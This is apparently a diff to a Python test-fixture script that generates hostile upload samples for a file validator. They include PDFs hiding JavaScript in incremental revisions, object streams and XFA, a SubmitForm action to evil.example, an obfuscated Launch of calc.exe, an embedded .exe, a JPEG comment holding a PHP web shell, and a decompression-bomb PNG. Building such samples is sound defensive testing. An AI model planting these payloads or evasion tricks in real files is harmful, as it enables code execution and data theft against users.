@@ -85,6 +85,113 @@ def bombe_png(cote=20000) -> bytes:
     )
 
 
+def pdf_incremental(ajout: bytes, decalage_xref: int = 0, base_corps: bytes = b"") -> bytes:
+    """A clean PDF followed by an incremental update adding `ajout` (objects redefining
+    the catalog, 1 0 obj, and object 4), its xref offsets shifted by `decalage_xref`
+    (wrong offsets: lenient parsers read the first revision, viewers rebuild)."""
+    base = pdf_brut(base_corps)
+    xref_base = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
+    sortie = io.BytesIO(base)
+    sortie.seek(0, 2)
+    positions = {}
+    for numero, objet in ajout_objets(ajout).items():
+        positions[numero] = sortie.tell()
+        sortie.write(b"%d 0 obj\n" % numero + objet + b"\nendobj\n")
+    xref = sortie.tell()
+    sortie.write(b"xref\n0 1\n0000000000 65535 f \n")
+    for numero, position in sorted(positions.items()):
+        sortie.write(b"%d 1\n%010d 00000 n \n" % (numero, position + decalage_xref))
+    sortie.write(
+        b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
+        % (xref_base, xref + decalage_xref)
+    )
+    return sortie.getvalue()
+
+
+def ajout_objets(catalogue_en_plus: bytes) -> dict[int, bytes]:
+    return {
+        1: b"<< /Type /Catalog /Pages 2 0 R " + catalogue_en_plus + b" >>",
+        4: b"<< /S /JavaScript /JS (app.alert(1)) >>",
+    }
+
+
+def pdf_pikepdf(construire, **options) -> bytes:
+    """A PDF made with pikepdf (qpdf), e.g. with its objects in compressed streams."""
+    import pikepdf
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(200, 200))
+    construire(pdf)
+    tampon = io.BytesIO()
+    pdf.save(tampon, **options)
+    return tampon.getvalue()
+
+
+def _js_dans_un_flux_objet(pdf) -> None:
+    import pikepdf
+
+    action = pdf.make_indirect(
+        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
+    )
+    pdf.Root.OpenAction = action
+
+
+def _annotation(action: bytes) -> bytes:
+    return (
+        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << " + action + b" >> >>]"
+    )
+
+
+def pdf_page(corps_page: bytes) -> bytes:
+    """Like pdf_brut, with `corps_page` in the page's dictionary."""
+    return pdf_brut(b"").replace(
+        b"/MediaBox [0 0 200 200] >>", b"/MediaBox [0 0 200 200] " + corps_page + b" >>"
+    )
+
+
+def pdf_page_xref(corps_page: bytes) -> bytes:
+    """pdf_page with its xref recomputed (the page object grew)."""
+    import pikepdf
+
+    with pikepdf.open(io.BytesIO(pdf_page(corps_page))) as pdf:  # repaired once, here
+        tampon = io.BytesIO()
+        pdf.save(
+            tampon, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable
+        )
+        return tampon.getvalue()
+
+
+def jpeg_commente() -> bytes:
+    """A JPEG with a COM segment holding PHP, and EXIF with a GPS position."""
+    image = Image.new("RGB", (40, 30), (200, 40, 40))
+    exif = Image.Exif()
+    exif[0x0110] = "Appareil espion"  # Model
+    exif[0x8825] = {1: "N", 2: (49.0, 30.0, 0.0)}  # GPS
+    tampon = io.BytesIO()
+    image.save(
+        tampon, format="JPEG", quality=85, exif=exif, comment=b"<?php system($_GET['c']); ?>"
+    )
+    return tampon.getvalue()
+
+
+def png_texte() -> bytes:
+    from PIL import PngImagePlugin
+
+    info = PngImagePlugin.PngInfo()
+    info.add_text("Comment", "<script>alert(1)</script>")
+    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>GPS 49.5N</x:xmpmeta>")
+    tampon = io.BytesIO()
+    Image.new("RGB", (40, 30), (29, 78, 137)).save(tampon, format="PNG", pnginfo=info)
+    return tampon.getvalue()
+
+
+def png_geant(cote=6300) -> bytes:
+    """A few hundred kB of PNG that decodes to cote×cote RGB pixels (119 MB at 6300)."""
+    tampon = io.BytesIO()
+    Image.new("RGB", (cote, cote), (255, 255, 255)).save(tampon, format="PNG", optimize=True)
+    return tampon.getvalue()
+
+
 FICHIERS = {
     # Accepted
     "photo.jpg": jpeg(),
@@ -109,6 +216,34 @@ FICHIERS = {
     "png_nomme.jpg": png(),
     "faux.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
     + b"\x13" * 300,
+    # Issue 10: what passed the first checks.
+    "incremental_js_xref_faux.pdf": pdf_incremental(
+        b"/OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >>", decalage_xref=37
+    ),
+    "incremental_js.pdf": pdf_incremental(b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >>"),
+    "ancienne_revision_js.pdf": pdf_incremental(
+        b"", base_corps=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
+    ),
+    "js_flux_objet.pdf": pdf_pikepdf(
+        _js_dans_un_flux_objet,
+        compress_streams=True,
+        object_stream_mode=__import__("pikepdf").ObjectStreamMode.generate,
+    ),
+    "xfa_script.pdf": pdf_brut(b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>"),
+    "submitform.pdf": pdf_page_xref(_annotation(b"/S /SubmitForm /F (https://evil.example/)")),
+    "gotor.pdf": pdf_page_xref(_annotation(b"/S /GoToR /F (autre.pdf) /D [0 /Fit]")),
+    "importdata.pdf": pdf_page_xref(_annotation(b"/S /ImportData /F (donnees.fdf)")),
+    "richmedia.pdf": pdf_page_xref(
+        b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>]"
+    ),
+    "fichier_joint.pdf": pdf_brut(
+        b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>"
+    ),
+    "lancement_echappe.pdf": pdf_page_xref(_annotation(b"/S /La#75nch /F (calc.exe)")),
+    "xref_casse.pdf": pdf_brut(b"").replace(b"startxref\n", b"startxref\n9"),
+    "jpeg_commentaire.jpg": jpeg_commente(),
+    "png_texte.png": png_texte(),
+    "png_geant.png": png_geant(),
 }
 
 if __name__ == "__main__":
